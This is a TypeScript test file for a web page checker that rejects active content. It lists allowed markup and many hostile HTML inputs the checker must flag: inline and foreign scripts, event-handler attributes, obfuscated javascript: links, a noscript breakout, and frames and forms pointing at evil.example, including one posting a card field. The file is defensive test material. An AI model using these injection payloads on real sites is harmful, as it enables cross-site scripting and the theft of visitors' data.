import { base64Digest } from '@platform/base/durable/digest'
import { readFacts } from '../facts/document-facts'
import { checkActiveContent } from './active-content-rules'
import type { AllowedContent } from './checked-page'

const FILE = '/assets/shell/main.01234567.js'
const SHEET = '/assets/catalog/courses.01234567.css'
const allowed: AllowedContent = {
  scripts: new Set([base64Digest('sha256', 'start()')]),
  styles: new Set([base64Digest('sha256', 'p{}')]),
  files: new Map([FILE, SHEET].map((address) => [address, `sha256-of ${address}`])),
  hosts: { 'frame-src': ['https://map.example'], 'img-src': ['https://*.pictures.example'] },
  formAction: 'javascript:throw 0',
}

function violationsOf(body: string, head = ''): string[] {
  const html = `<!doctype html><html lang="en"><head><title>A</title>${head}</head><body>${body}</body></html>`
  const page = { address: '/courses', owner: 'catalog', facts: readFacts(html), htmlBytes: 0, scriptBytes: 0 }
  const check = checkActiveContent('https://shop.example')
  return check({ ...page, styles: [], priceList: undefined, allowed }).map(({ rule, what }) => `${rule} ${what}`)
}

describe('what a page may have', () => {
  it.each([
    ['the declared script', '<script>start()</script><script type="module">start()</script>'],
    [
      'data',
      '<script type="application/json" id="a">{"a":"</"}</script><script type="application/ld+json">{}</script>',
    ],
    ['its style sheets', '<style data-href="/a.css">p{}</style>'],
    ['its files, with their integrity', `<script src="${FILE}" integrity="sha256-of ${FILE}"></script>`],
    ['a form of React and one of its own', '<form action="javascript:throw 0"></form><form action="/search"></form>'],
    [
      'links',
      '<a href="/x">x</a><a href="https://hse.gov.uk">x</a><a href="tel:+44">x</a><a href="mailto:a@b.c">x</a>',
    ],
    ['granted frames', '<iframe src="https://map.example/a?b" title="m"></iframe>'],
    [
      'pictures',
      '<img src="/a.png" alt=""><img src="data:image/gif;base64,R0" alt=""><img src="https://a.pictures.example/b" alt="">',
    ],
    ['drawings', '<svg viewBox="0 0 1 1"><title>t</title><path d="M0"/><use href="#a"></use></svg>'],
    ['words without scripts', '<noscript><p>Please call.</p></noscript>'],
    ['options', '<select><optgroup label="a"><option>b</option></optgroup><!-- --><option>&lt;c</option></select>'],
    ['an element of its own', '<course-card></course-card>'],
  ])('%s', (_what, body) => expect(violationsOf(body)).toEqual([]))

  it('and in its head', () => {
    const head =
      '<meta charset="utf-8"><link rel="canonical" href="https://shop.example/courses"><link rel="icon" href="/favicon.ico">' +
      `<link rel="stylesheet" href="${SHEET}" integrity="sha256-of ${SHEET}"><link rel="modulepreload" href="${FILE}">` +
      '<link rel="preconnect" href="https://map.example"><link rel="preload" as="image" href="/a.png" imagesrcset="/b.png 2x">'
    expect(violationsOf('', head)).toEqual([])
  })
})

describe('what a page may not have is named with its reason, tag and place', () => {
  it.each<[string, RegExp]>([
    ['<script>evil()</script>', /^policy has an inline script that the shell does not declare: <script> at 1:\d+$/],
    ['<script type="module">evil()</script>', /inline script/],
    ['<script type="TEXT/JavaScript">evil()</script>', /inline script/],
    ['<script type="importmap">{}</script>', /a script of the type "importmap"/],
    ['<script type="speculationrules">{}</script>', /a script of the type "speculationrules"/],
    ['<script type="application/json" src="/a.json"></script>', /a block of data with an address/],
    ['<style>p{color:red}</style>', /an inline style that is no style sheet of the page: <style>/],
    ['<p style="color:red">x</p>', /the attribute style: <p style="color:red">/],
    ['<p onclick="evil()">x</p>', /the event attribute onclick/],
    ['<img src=x alt="" OnError=evil()>', /the event attribute onerror/],
    ['<svg onload="evil()"></svg>', /the event attribute onload/],
    ['<template><p onclick="evil()">x</p></template>', /the event attribute onclick/],
    ['<div><template shadowrootmode="open"><script>evil()</script></template></div>', /inline script/],
    [
      '<script src="https://evil.example/x.js"></script>',
      /a script that is no file of the shell or of the page's package/,
    ],
    ['<script src="//evil.example/x.js"></script>', /a script that is no file/],
    ['<script src="/assets/content/blog.01234567.js"></script>', /a script that is no file/],
    [`<script src="https://evil.example${FILE}" integrity="sha256-of ${FILE}"></script>`, /a script that is no file/],
    [`<script src="${FILE}"></script>`, /a script without integrity/],
    [`<script src="${FILE}" integrity="sha256-of another"></script>`, /a script with another integrity than its file/],
    ['<a href="javascript:evil()">x</a>', /a link by javascript:/],
    ['<a href=" java&#10;script:evil()">x</a>', /a link by javascript:/],
    ['<a href="data:text/html,<script>evil()</script>">x</a>', /a link by data:/],
    ['<iframe srcdoc="<script>evil()</script>"></iframe>', /the attribute srcdoc/],
    [
      '<iframe src="https://evil.example/" title="x"></iframe>',
      /a frame of https:\/\/evil\.example, which the site does not/,
    ],
    ['<iframe src="javascript:evil()" title="x"></iframe>', /a frame of javascript:/],
    ['<form action="https://evil.example/"><input name="card"></form>', /a form of https:\/\/evil\.example/],
    ['<form action="javascript:evil()"></form>', /a form of javascript:/],
    ['<form><button formaction="//evil.example/">x</button></form>', /a form of https:\/\/evil\.example/],
    ['<img src="https://pictures.example/a" alt="">', /an? image of https:\/\/pictures\.example/],
    ['<img srcset="/a 1x, https://evil.example/a 2x" src="/a" alt="">', /image of https:\/\/evil\.example/],
    ['<video poster="https://evil.example/a"></video>', /image of https:\/\/evil/],
    ['<a ping="https://evil.example/" href="/">x</a>', /the attribute ping/],
    ['<object data="/x.swf"></object>', /an element that no page may have: <object/],
    ['<svg><script>evil()</script></svg>', /an element that no page may have: <script>/],
    ['<svg><a href="javascript:evil()"><path d="M0"/></a></svg>', /an element that no page may have: <a/],
    ['<svg><foreignObject><p>x</p></foreignObject></svg>', /an element that no page may have: <foreignObject>/],
    ['<svg><use href="/sprite.svg#a"></use></svg>', /an element that no page may have: <use/],
    ['<svg><use xlink:href="data:image/svg+xml,a"></use></svg>', /an element that no page may have: <use/],
    ['<svg><set attributeName="href" to="javascript:evil()"/></svg>', /an element that no page may have: <set/],
    ['<math><mtext><p>x</p></mtext></math>', /an element that no page may have: <math>/],
    ['<noscript><p title="</noscript><script>evil()</script>">x</p></noscript>', /a noscript that ends elsewhere/],
    ['<select><option>a</option><iframe srcdoc="x"></iframe></select>', /a select with more than options/],
    [
      '<p id="a">x</p><script type="application/json" id="a">{}</script>',
      /the id "a" of the document’s own data a second/,
    ],
  ])('%s', (body, violation) => {
    const violations = violationsOf(body)
    expect(violations.filter((it) => violation.test(it))).toHaveLength(1)
  })

  it.each<[string, RegExp]>([
    ['<base href="https://evil.example/">', /an element that no page may have: <base/],
    ['<meta http-equiv="refresh" content="0;url=https://evil.example">', /the attribute http-equiv/],
    ['<meta http-equiv="Content-Security-Policy" content="x">', /the attribute http-equiv/],
    ['<meta name="referrer" content="unsafe-url">', /a referrer policy of its own/],
    ['<meta charset="utf-7">', /another encoding/],
    ['<link rel="stylesheet" href="https://evil.example/x.css">', /a style that is no file/],
    ['<link rel="modulepreload" href="https://evil.example/x.js">', /a script that is no file/],
    ['<link rel="preload" as="script" href="/assets/content/x.js">', /a script that is no file/],
    ['<link rel="preconnect" href="https://evil.example">', /a host of https:\/\/evil\.example/],
    ['<link rel="prefetch" href="/">', /a link of the kind "prefetch"/],
    ['<link rel="preload" as="worker" href="/x.js">', /a link of the kind "preload"/],
    ['<noscript><link rel="stylesheet" href="https://evil.example/x.css"></noscript>', /a style that is no file/],
  ])('%s', (head, violation) => expect(violationsOf('', head).join('\n')).toMatch(violation))
})
